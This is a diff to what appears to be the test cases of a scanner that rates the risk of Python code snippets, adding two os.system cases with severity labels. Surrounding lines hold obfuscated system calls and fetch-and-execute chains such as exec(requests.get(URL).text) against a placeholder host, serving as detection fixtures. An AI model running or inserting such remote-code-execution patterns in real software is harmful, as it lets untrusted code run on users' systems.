@@ -44,6 +44,8 @@ URL = "https://example.invalid/a"
         ("getattr(os, 'sys' + 'tem')('prog')", "high"),
         ("__import__('o' + 's').system('git describe')", "high"),
         ("os.system(bytes.fromhex('70726f67').decode())", "critical"),
+        (f"os.system('unset P; python3 -c \"import requests; print(requests.get(\\'{URL}\\'))\"')", "high"),
+        ("os.system('python3 -c \"import sys; print(sys.path)\"')", "medium"),
         # chains
         (f"exec(requests.get('{URL}').text)", "critical"),
         (f"import base64\nexec(base64.b64decode('{INNER}'))", "critical"),
